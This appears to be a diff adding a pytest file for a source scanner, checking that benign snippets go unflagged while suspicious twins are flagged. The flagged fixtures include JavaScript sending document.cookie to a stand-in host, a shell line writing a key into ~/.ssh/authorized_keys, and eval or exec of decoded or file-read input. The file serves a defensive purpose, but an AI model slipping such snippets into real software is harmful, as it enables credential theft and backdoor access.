@@ -1,0 +1,50 @@
+"""What honest programs do every day is not put before people; its twin that is no more honest is.
+
+Spec: evenhand.code.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from evenhand.code.examine import examine
+from evenhand.judge.result import LOOK_HERE
+
+XSRF = "const c = document.cookie;\nfetch({url}, {{headers: {{'X-XSRF-TOKEN': c}}}});\n"
+PATH_RUN = "class {name}:\n    def load(self):\n        exec(compile(self.path, 'x', 'exec'))\n"
+KEY = "#!/bin/sh\n{before}printf '%s\\n' \"$KEY\" > /home/dev/.ssh/authorized_keys\n"
+WASM = "const b = Buffer.from('{text}', 'base64');\n{runs}(b);\n"
+SCOPES = """
+function one() {{ function i(a) {{ return eval(a); }} i('1'); }}
+function two() {{ {own}i(Buffer.from(process.argv[2], 'base64').toString()); }}
+"""
+COPY = "import pickle\ncode = pickle.loads({made})\nexec(code)\n"
+CASES = {
+    "xsrf": ("javascript", XSRF.format(url="url"), XSRF.format(url="'https://c.example.net/'")),
+    "own path": (
+        "python", PATH_RUN.format(name="Loader(Source)"), PATH_RUN.format(name="A(BaseHandler)"),
+    ),
+    "key of the user": ("shell", KEY.format(before=""), KEY.format(before="KEY='ssh-rsa AAAA'\n")),
+    "wasm": (
+        "javascript", WASM.format(text="AGFzbQEAAAABKwhg", runs="WebAssembly.instantiate"),
+        WASM.format(text="Y29uc29sZS5sb2coMSk7", runs="eval"),
+    ),
+    "another function of that name": (
+        "javascript", SCOPES.format(own="const i = console.log; "),
+        SCOPES.format(own="function i(a) { return eval(a); } "),
+    ),
+    "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
+}  # fmt: skip
+
+
+def asked(text: str, language: str) -> bool:
+    """True where a person would be asked to look at this source."""
+    found = examine(text.encode(), language, "when run").found
+    return any(f.strength >= LOOK_HERE for f in found)
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_ordinary_is_not_put_before_people(name: str) -> None:
+    language, honest, other = CASES[name]
+    assert not asked(honest, language)
+    assert asked(other, language)
